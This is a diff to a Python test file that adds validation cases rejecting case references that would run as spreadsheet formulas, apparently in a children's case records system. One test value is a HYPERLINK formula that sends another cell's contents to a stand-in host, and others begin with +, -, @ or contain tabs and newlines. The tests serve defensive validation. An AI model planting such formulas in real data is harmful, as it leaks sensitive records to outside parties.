@@ -95,10 +95,19 @@ def test_a_found_child_episode_and_assigned_interview_are_saved_together(store: 
     assert entities == ["child", "episode", "interview"]
 
 
+PLAIN = Problem.CASE_REFERENCE_NOT_PLAIN  # it would run as a formula, or is not one line
+
+
 @pytest.mark.parametrize(
     ("changes", "problem"),
     [
         ({"case_reference": "  "}, Problem.MISSING_CASE_REFERENCE),
+        ({"case_reference": '=HYPERLINK("https://x.example/?"&B2,"LAC-1")'}, PLAIN),
+        ({"case_reference": "+44"}, PLAIN),
+        ({"case_reference": " -1"}, PLAIN),
+        ({"case_reference": "@SUM(A1)"}, PLAIN),
+        ({"case_reference": "LAC\t1"}, PLAIN),
+        ({"case_reference": "LAC\n1"}, PLAIN),
         ({"name": ""}, Problem.MISSING_NAME),
         ({"date_of_birth": date(2030, 1, 1)}, Problem.BORN_IN_FUTURE),
         ({"date_of_birth": date(2006, 1, 1)}, Problem.NOT_A_CHILD),
